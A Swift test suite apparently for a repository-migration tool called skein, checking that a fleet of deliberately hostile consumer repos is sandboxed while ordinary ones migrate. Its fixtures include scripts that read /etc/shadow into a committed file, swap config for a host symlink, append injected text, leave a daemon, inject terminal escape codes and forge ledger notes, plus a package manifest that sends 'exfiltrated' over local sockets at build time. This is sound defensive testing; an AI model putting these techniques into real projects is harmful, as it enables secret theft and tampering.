import Foundation
import Testing
import TestSupport

/// One fleet where most consumers attack skein and a few are ordinary, migrated by real `run`s
/// with bubblewrap and real `swift test`. The ordinary ones end as they would alone; each hostile
/// one ends `error` or `tests-failed` with a reason (the daemon one, whose tests pass, ends
/// passed); no host file or connection is reached, and nothing is left running.
@Suite(.serialized) struct HostileFleetTests {
    static let oldLocation = "gs://listening-data/plays/v1"
    static let newLocation = "gs://listening-data/plays/v3"
    static let dependencyURL = "https://skein-test.invalid/deps/Greeting.git"

    @Test func hostileConsumersAreContainedAndOrdinaryOnesMigrate() throws {
        let fleet = HostileFleet()
        let tcp = LoopbackListener(udp: false)
        let udp = LoopbackListener(udp: true)
        fleet.addConsumers(tcpPort: tcp.port, udpPort: udp.port)
        let added = fleet.skein(["mirror", "add", "--mirrors", fleet.mirrors] + fleet.upstreamPaths)
        #expect(added.status == 0, "\(added.stdout)\(added.stderr)")
        // A repo name with escape codes is shown escaped.
        #expect(!added.stdout.contains("\u{1b}"))
        #expect(added.stdout.contains("esc\\e[31mname"), "\(added.stdout)")

        // A first, quick run gives the fingerprint of the migration's rules, which a forged
        // line needs to look like a finished consumer.
        let quick = fleet.run(["--only", "quick"])
        #expect(quick.status == 0, "\(quick.stdout)\(quick.stderr)")
        let rules = fleet.ledger("quick").last?["rules"] as? String ?? ""
        #expect(!rules.isEmpty)
        fleet.forgeUpstreamNotes(rules: rules)
        let synced = fleet.skein(["mirror", "sync", "--mirrors", fleet.mirrors])
        #expect(synced.status == 0, "\(synced.stdout)\(synced.stderr)")
        // The upstream's ledger merges (SPEC 6); its baseline cache is never fetched.
        #expect(git("notes", "--ref=skein", "show", "main", in: fleet.mirror("forged-notes")).contains("2099"))
        #expect(gitResult(["notes", "--ref=skein-baseline", "list"], in: fleet.mirror("forged-notes")).trimmed.isEmpty)

        let main = fleet.run([
            "--only", HostileFleet.mainRun.joined(separator: ","), "--timeout", "900", "--jobs", "4", "--test-jobs", "2",
        ])
        #expect(main.status == 1, "\(main.stdout)\(main.stderr)")
        #expect(!main.stdout.contains("\u{1b}") && !main.stderr.contains("\u{1b}["))

        // Ordinary consumers, one resolving a dependency only reachable through `insteadOf`.
        for name in ["with-dependency", "with-dependency-unpinned", "quick", "esc\u{1b}[31mname"] {
            #expect(fleet.status(name) == "tests-passed", "\(name): \(fleet.ledger(name).last ?? [:])\n\(main.stdout)")
        }
        let migrated = git("show", "skein/hostile-v3:Sources/App/App.swift", in: fleet.mirror("with-dependency"))
        #expect(migrated.contains(Self.newLocation))
        // The daemon's test passed, and the daemon is gone.
        #expect(fleet.status("daemon") == "tests-passed", "\(fleet.ledger("daemon").last ?? [:])")
        #expect(processes(containing: "sleep \(fleet.daemonMarker)").isEmpty)

        // Tampering after the tests: reported, and the branch holds only skein's bytes.
        for name in ["symlink-swap", "append-after", "fifo"] {
            let line = fleet.ledger(name).last ?? [:]
            #expect(line["status"] as? String == "error", "\(name): \(line)")
            #expect((line["error"] as? String ?? "").contains("the tests changed"), "\(name): \(line)")
            let committed = git("show", "skein/hostile-v3:config/pipeline.yaml", in: fleet.mirror(name))
            #expect(committed == "source: \(Self.newLocation)", "\(name): \(committed)")
        }
        #expect(FileManager.default.fileExists(atPath: fleet.hostSecret), "the host folder the link pointed at was touched")
        for name in HostileFleet.mainRun {
            // What skein committed: the branch's commits (the consumer's own history holds the scripts).
            let everything = gitResult(["log", "-p", "main..skein/hostile-v3"], in: fleet.mirror(name)).stdout
            #expect(!everything.contains(HostileFleet.secretText), "\(name) committed the host's secret")
            #expect(!everything.contains("INJECTED"), "\(name) committed what a test appended")
        }

        let unreachable = fleet.ledger("unreachable-dependency").last ?? [:]
        #expect(unreachable["status"] as? String == "error", "\(unreachable)")
        #expect((unreachable["error"] as? String ?? "").contains("Nothing.git cannot be fetched"), "\(unreachable)")

        // The manifest that phones home: contained, and the consumer does not pass.
        #expect(tcp.received() == 0)
        #expect(udp.received() == 0)
        #expect(["error", "tests-failed"].contains(fleet.status("manifest-network")), "\(fleet.ledger("manifest-network").last ?? [:])")

        // /etc/shadow is not there to be read, let alone committed.
        #expect(["error", "tests-failed"].contains(fleet.status("shadow-reader")), "\(fleet.ledger("shadow-reader").last ?? [:])")
        if let shadow = try? String(contentsOfFile: "/etc/shadow", encoding: .utf8),
           let first = shadow.split(separator: "\n").first(where: { $0.contains("$") }) {
            #expect(!gitResult(["log", "-p", "--all"], in: fleet.mirror("shadow-reader")).stdout.contains(String(first)))
        }

        // Forged upstream notes: the consumer was migrated, not skipped, and a failure the
        // migration caused is blamed on it.
        let forged = fleet.ledger("forged-notes").last ?? [:]
        #expect(forged["status"] as? String == "tests-failed", "\(forged)")
        #expect(!main.stdout.contains("forged-notes: tests-passed (already recorded"))
        let status = fleet.skein(["status", "--mirrors", fleet.mirrors, "--json"])
        let shown = (try? JSONSerialization.jsonObject(with: Data(status.stdout.utf8))) as? [String: Any]
        let migrations = shown?["migrations"] as? [[String: Any]] ?? []
        let other = migrations.first { $0["id"] as? String == "other-migration" }
        let otherRepos = other?["repos"] as? [[String: Any]] ?? []
        #expect(otherRepos.first?["verified"] as? Bool == false, "\(status.stdout)")
        let hostile = migrations.first { $0["id"] as? String == "hostile-v3" }?["repos"] as? [[String: Any]] ?? []
        #expect(hostile.first { $0["repo"] as? String == "forged-notes" }?["verified"] as? Bool == true)
        let table = fleet.skein(["status", "--mirrors", fleet.mirrors])
        #expect(table.stdout.contains("unverified"), "\(table.stdout)")
        #expect(!table.stdout.contains("\u{1b}") && !table.stdout.contains("\u{7}"))
        // The failing test's name reaches the table, escaped.
        #expect(fleet.status("escape-test-name") == "tests-failed", "\(fleet.ledger("escape-test-name").last ?? [:])")
        #expect(table.stdout.contains("Evil.test_\\e]0;pwned\\u{7}\\e[2J"), "\(table.stdout)")

        // A consumer's .skein.yaml may lower the fleet's timeout, never raise it.
        let start = Date()
        let raised = fleet.run(["--only", "raised-timeout", "--timeout", "15"])
        #expect(raised.status == 1)
        let line = fleet.ledger("raised-timeout").last ?? [:]
        #expect(line["status"] as? String == "error", "\(line)")
        #expect((line["error"] as? String ?? "").contains("timed out after 15 s"), "\(line)")
        #expect(Date().timeIntervalSince(start) < 600)
        #expect(processes(containing: "sleep 3000").isEmpty)
    }
}

/// The hostile fleet's registry, upstreams and mirrors in a temporary directory.
final class HostileFleet: @unchecked Sendable {
    let directory = TemporaryDirectory("skein-hostile")
    var registry: String { directory.url("registry") }
    var mirrors: String { directory.url("mirrors") }
    var home: String { directory.url("home") }
    var migration: String { directory.url("hostile-v3.yaml") }
    func mirror(_ name: String) -> String { directory.url("mirrors/\(name).git") }
    private(set) var upstreamPaths: [String] = []
    let daemonMarker = "8\(UInt32.random(in: 100_000...999_999))"
    static let secretText = "HOST-SECRET-\(UInt32.random(in: 100_000...999_999))"
    var hostSecret: String { directory.url("host-only/pipeline.yaml") }

    /// The consumers of the main run (the raised timeout gets a run of its own).
    static let mainRun = [
        "with-dependency", "with-dependency-unpinned", "quick", "esc\u{1b}[31mname", "daemon", "symlink-swap", "append-after",
        "fifo", "manifest-network", "shadow-reader", "forged-notes", "unreachable-dependency", "escape-test-name",
    ]

    init() {
        let registry = self.registry
        try! FileManager.default.createDirectory(atPath: registry, withIntermediateDirectories: true)
        git("init", "-q", "-b", "main", in: registry)
        for version in ["v1", "v2"] {
            _ = runProgram("/bin/cp", ["-R", fixturePath("fleet/registry/\(version)") + "/.", registry + "/"])
            git("add", "-A", in: registry)
            git("commit", "-q", "-m", "datasets \(version)", in: registry)
        }
        try! """
            id: hostile-v3
            datasets: [plays]
            rules:
              - replaceString: { from: "\(HostileFleetTests.oldLocation)", to: "\(HostileFleetTests.newLocation)" }
            """.write(toFile: migration, atomically: true, encoding: .utf8)
        // The machine's git configuration, as libgit2 reads it for skein: the dependency's URL
        // is only reachable through this rewrite.
        directory.write("home/.gitconfig", "[url \"\(directory.url("deps"))/\"]\n\tinsteadOf = https://skein-test.invalid/deps/\n")
        directory.write("host-only/pipeline.yaml", HostileFleet.secretText + "\n")
    }

    func skein(_ arguments: [String]) -> CommandOutput {
        TestSupport.skein(arguments, environment: ["HOME": home, "GIT_CONFIG_GLOBAL": home + "/.gitconfig"])
    }

    func run(_ extra: [String]) -> CommandOutput {
        skein(["run", "--registry", registry, "--mirrors", mirrors, "--migration", migration] + extra)
    }

    func ledger(_ repo: String) -> [[String: Any]] {
        let notes = git("notes", "--ref=skein", "list", in: mirror(repo))
        var lines: [[String: Any]] = []
        for note in notes.split(separator: "\n") {
            let text = git("notes", "--ref=skein", "show", String(note.split(separator: " ")[1]), in: mirror(repo))
            for line in text.split(separator: "\n") {
                if let json = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any],
                   json["migration"] as? String == "hostile-v3", (json["at"] as? String ?? "") < "2099" {
                    lines.append(json)
                }
            }
        }
        return lines.sorted { ($0["at"] as? String ?? "") < ($1["at"] as? String ?? "") }
    }

    func status(_ repo: String) -> String? { ledger(repo).last?["status"] as? String }

    private func upstream(_ name: String, _ files: [String: String]) {
        let work = directory.url("work/\(name)")
        var all = files
        all["catalog-info.yaml"] = """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: consumer
            spec:
              type: service
              owner: team-hostile
              dependsOn: [resource:plays]
            """
        makeRepository(at: work, files: all)
        let bare = directory.url("upstreams/\(name).git")
        git("clone", "-q", "--bare", work, bare, in: directory.path)
        upstreamPaths.append(bare)
    }

    /// A consumer whose test command is its own script: as untrusted as any test, and quicker.
    private func scripted(_ name: String, _ script: String, settings: String = "") {
        upstream(name, [
            "config/pipeline.yaml": "source: \(HostileFleetTests.oldLocation)\n",
            "attack.sh": script,
            ".skein.yaml": "test:\n  command: sh attack.sh\n" + settings,
        ])
    }

    private func swiftPackage(name: String, manifest: String, test: String, extra: [String: String] = [:]) {
        var files = extra
        files["Package.swift"] = manifest
        files["Sources/App/App.swift"] = extra["Sources/App/App.swift"] ?? "public let datasetSource = \"\(HostileFleetTests.oldLocation)\"\n"
        files["Tests/AppTests/AppTests.swift"] = test
        upstream(name, files)
    }

    static let plainManifest = """
        // swift-tools-version: 5.9
        import PackageDescription
        let package = Package(name: "App", targets: [.target(name: "App"), .testTarget(name: "AppTests", dependencies: ["App"])])
        """

    static let passingTest = """
        import XCTest
        @testable import App
        final class AppTests: XCTestCase {
            func testSource() { XCTAssertTrue(datasetSource.hasPrefix("gs://listening-data/plays/")) }
        }
        """

    func addConsumers(tcpPort: UInt16, udpPort: UInt16) {
        // The dependency: a small package in a local bare repo, named by a made-up URL.
        let greeting = directory.url("work/Greeting")
        makeRepository(at: greeting, files: [
            "Package.swift": """
                // swift-tools-version: 5.9
                import PackageDescription
                let package = Package(name: "Greeting", products: [.library(name: "Greeting", targets: ["Greeting"])], targets: [.target(name: "Greeting")])
                """,
            "Sources/Greeting/Greeting.swift": "public func greeting() -> String { \"hello\" }\n",
        ])
        git("tag", "1.0.0", in: greeting)
        let revision = git("rev-parse", "HEAD", in: greeting)
        git("clone", "-q", "--bare", greeting, directory.url("deps/Greeting.git"), in: directory.path)
        let dependentManifest = """
            // swift-tools-version: 5.9
            import PackageDescription
            let package = Package(
                name: "App",
                dependencies: [.package(url: "\(HostileFleetTests.dependencyURL)", from: "1.0.0")],
                targets: [
                    .target(name: "App", dependencies: [.product(name: "Greeting", package: "Greeting")]),
                    .testTarget(name: "AppTests", dependencies: ["App"]),
                ]
            )
            """
        let dependentSource = """
            import Greeting
            public let datasetSource = "\(HostileFleetTests.oldLocation)"
            public func message() -> String { greeting() + "!" }
            """
        let dependentTest = """
            import XCTest
            @testable import App
            final class AppTests: XCTestCase {
                func testMessage() { XCTAssertEqual(message(), "hello!") }
                func testSource() { XCTAssertTrue(datasetSource.hasPrefix("gs://listening-data/plays/")) }
            }
            """
        swiftPackage(name: "with-dependency", manifest: dependentManifest, test: dependentTest, extra: [
            "Sources/App/App.swift": dependentSource,
            "Package.resolved": """
                {
                  "pins" : [
                    {
                      "identity" : "greeting",
                      "kind" : "remoteSourceControl",
                      "location" : "\(HostileFleetTests.dependencyURL)",
                      "state" : { "revision" : "\(revision)", "version" : "1.0.0" }
                    }
                  ],
                  "version" : 2
                }
                """,
        ])
        swiftPackage(name: "with-dependency-unpinned", manifest: dependentManifest, test: dependentTest, extra: ["Sources/App/App.swift": dependentSource])
        // A dependency that cannot be had (nothing serves its URL): the consumer ends in error.
        swiftPackage(name: "unreachable-dependency", manifest: dependentManifest.replacingOccurrences(of: "Greeting.git", with: "Nothing.git"),
                     test: dependentTest, extra: [
            "Sources/App/App.swift": dependentSource,
            "Package.resolved": """
                {"pins": [{"identity": "nothing", "kind": "remoteSourceControl", "location": "https://skein-test.invalid/deps/Nothing.git",
                  "state": {"revision": "\(revision)", "version": "1.0.0"}}], "version": 2}
                """,
        ])

        upstream("quick", [
            "config/pipeline.yaml": "source: \(HostileFleetTests.oldLocation)\n", ".skein.yaml": "test:\n  command: \"true\"\n",
        ])
        upstream("esc\u{1b}[31mname", [
            "config/pipeline.yaml": "source: \(HostileFleetTests.oldLocation)\n", ".skein.yaml": "test:\n  command: \"true\"\n",
        ])

        swiftPackage(name: "daemon", manifest: Self.plainManifest, test: """
            import Foundation
            import XCTest
            @testable import App
            final class AppTests: XCTestCase {
                func testLeavesADaemon() throws {
                    let process = Process()
                    process.executableURL = URL(fileURLWithPath: "/bin/sh")
                    process.arguments = ["-c", "setsid sh -c 'sleep \(daemonMarker)' >/dev/null 2>&1 &"]
                    try process.run()
                    process.waitUntilExit()
                    XCTAssertTrue(datasetSource.hasPrefix("gs://listening-data/plays/"))
                }
            }
            """)

        // After the rewrite (the file names the new location), each attacks the rewritten file.
        let afterRewrite = "grep -q plays/v3 config/pipeline.yaml || exit 0\n"
        scripted("symlink-swap", afterRewrite + "rm -rf config && ln -s '\(directory.url("host-only"))' config\n")
        scripted("append-after", afterRewrite + "echo INJECTED >> config/pipeline.yaml\n")
        scripted("fifo", afterRewrite + "rm config/pipeline.yaml && mkfifo config/pipeline.yaml\n")
        scripted("shadow-reader", "cat /etc/shadow > stolen.txt && cat stolen.txt >> config/pipeline.yaml && test -s stolen.txt\n")
        scripted("raised-timeout", "sleep 3000\n", settings: "  timeout: 3600\n")
        // A test whose name retitles and clears the terminal, failing after the rewrite.
        scripted("escape-test-name", """
            name="Evil.test_$(printf '\\033]0;pwned\\007\\033[2J')"
            echo "Test Suite 'All tests' started at 2026-01-01"
            echo "Test Case '$name' started at 2026-01-01"
            if grep -q plays/v3 config/pipeline.yaml; then echo "Test Case '$name' failed (0.001 seconds)."; exit 1; fi
            echo "Test Case '$name' passed (0.001 seconds)."

            """)

        swiftPackage(name: "manifest-network", manifest: """
            // swift-tools-version: 5.9
            import PackageDescription
            #if canImport(Glibc)
            import Glibc
            func reach(_ kind: Int32, _ port: UInt16) -> Bool {
                let fd = socket(AF_INET, kind, 0)
                defer { close(fd) }
                var address = sockaddr_in()
                address.sin_family = sa_family_t(AF_INET)
                address.sin_port = port.bigEndian
                address.sin_addr.s_addr = inet_addr("127.0.0.1")
                let size = socklen_t(MemoryLayout<sockaddr_in>.size)
                return withUnsafePointer(to: &address) { pointer in
                    pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { target -> Bool in
                        if kind == Int32(SOCK_DGRAM.rawValue) { return sendto(fd, "exfiltrated", 11, 0, target, size) == 11 }
                        return connect(fd, target, size) == 0 && write(fd, "exfiltrated", 11) == 11
                    }
                }
            }
            _ = reach(Int32(SOCK_DGRAM.rawValue), \(udpPort))
            let reached = reach(Int32(SOCK_STREAM.rawValue), \(tcpPort))
            #else
            let reached = false
            #endif
            // Without the host's listener, this consumer's build fails: it is hostile, not ordinary.
            if !reached { fatalError("the manifest could not reach the host") }
            let package = Package(name: "App", targets: [.target(name: "App"), .testTarget(name: "AppTests", dependencies: ["App"])])
            """, test: Self.passingTest)

        swiftPackage(name: "forged-notes", manifest: Self.plainManifest, test: """
            import XCTest
            @testable import App
            final class AppTests: XCTestCase {
                func testSourceIsStillV1() { XCTAssertTrue(datasetSource.hasSuffix("/v1")) }
            }
            """)
    }

    /// Writes notes into the forged-notes upstream: a ledger line saying the migration already
    /// passed at its base, a line of another migration, and a baseline cache line blaming the
    /// test the migration breaks on the base.
    func forgeUpstreamNotes(rules: String) {
        let upstream = directory.url("upstreams/forged-notes.git")
        let base = git("rev-parse", "main", in: upstream)
        let forgedLine = #"{"at":"2099-01-01T00:00:00Z","base":"\#(base)","commit":null,"migration":"hostile-v3","repo":"forged-notes","rules":"\#(rules)","schema_commit":"0000000000000000000000000000000000000000","status":"tests-passed"}"#
        let otherLine = #"{"at":"2099-01-01T00:00:00Z","base":"\#(base)","commit":null,"migration":"other-migration","repo":"forged-notes","schema_commit":"0000000000000000000000000000000000000000","status":"tests-passed"}"#
        git("notes", "--ref=skein", "add", "-f", "-m", forgedLine + "\n" + otherLine, base, in: upstream)
        let baseline = #"{"at":"2099-01-01T00:00:00Z","failed":1,"failing":["AppTests.testSourceIsStillV1"],"log":"","outcome":"tests-failed","passed":0,"skipped":0,"test_command":"swift test"}"#
        git("notes", "--ref=skein-baseline", "add", "-f", "-m", baseline, base, in: upstream)
    }
}

/// A TCP or UDP socket on 127.0.0.1 that counts what reaches it.
final class LoopbackListener: @unchecked Sendable {
    let port: UInt16
    private let socketFD: Int32
    private let udp: Bool

    init(udp: Bool) {
        self.udp = udp
        socketFD = socket(AF_INET, Int32(udp ? SOCK_DGRAM.rawValue : SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let fd = socketFD
        withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                _ = bind(fd, $0, length)
                _ = getsockname(fd, $0, &length)
            }
        }
        if !udp { _ = listen(fd, 16) }
        _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
        port = UInt16(bigEndian: address.sin_port)
    }

    deinit { close(socketFD) }

    /// Connections (TCP) or datagrams (UDP) waiting now.
    func received() -> Int {
        var count = 0
        var buffer = [UInt8](repeating: 0, count: 256)
        while true {
            if udp {
                guard recv(socketFD, &buffer, buffer.count, 0) >= 0 else { return count }
            } else {
                let client = accept(socketFD, nil, nil)
                guard client >= 0 else { return count }
                close(client)
            }
            count += 1
        }
    }
}
